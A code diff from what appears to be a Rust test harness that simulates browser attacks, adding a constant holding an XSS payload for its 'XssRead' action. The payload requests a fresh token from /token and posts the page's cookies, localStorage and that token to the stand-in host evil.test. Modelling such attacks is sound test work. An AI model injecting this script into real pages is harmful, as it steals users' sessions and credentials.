@@ -199,14 +199,25 @@ fn in_page(action: Action) -> Option<String> {
         Action::CrossSiteCall { tab: n } => call(n, "GET", "https://api.partner.test/orders"),
         Action::IssueLink => call(1, "POST", "/link"),
         Action::XssRide { tab: n } => format!("{}.shop.compose('POST', '/api/notes')", tab(n)),
-        // It belongs to the attacker: nothing of the page's code is used.
-        Action::XssRead { tab: 1 } => "fetch('https://evil.test/collect', { method: 'POST', \
-            mode: 'no-cors', credentials: 'omit', body: JSON.stringify({ \
-            cookie: document.cookie, stored: { ...localStorage } }) })"
-            .into(),
+        Action::XssRead { tab: 1 } => INJECTED.into(),
         _ => return None,
     })
 }
+
+/// It belongs to the attacker: nothing of the page's code is used but what the page is
+/// made with. Where the page could ask for a token, so can this.
+const INJECTED: &str = "(async () => {
+    let asked = {};
+    if (usesTokens && config.renews && config.refresh === 'cookie' && config.access !== 'cookie') {
+        const body = new URLSearchParams({ grant_type: 'refresh_token', client_id: 'shop-web' });
+        const answer = await fetch('/token', { method: 'POST', body });
+        if (answer.ok) asked = await answer.json();
+    }
+    await fetch('https://evil.test/collect', {
+        method: 'POST', mode: 'no-cors', credentials: 'omit',
+        body: JSON.stringify({ cookie: document.cookie, stored: { ...localStorage, ...asked } }),
+    });
+})()";
 
 impl Run<'_> {
     fn step(&mut self, actions: &[Action]) -> Vec<String> {
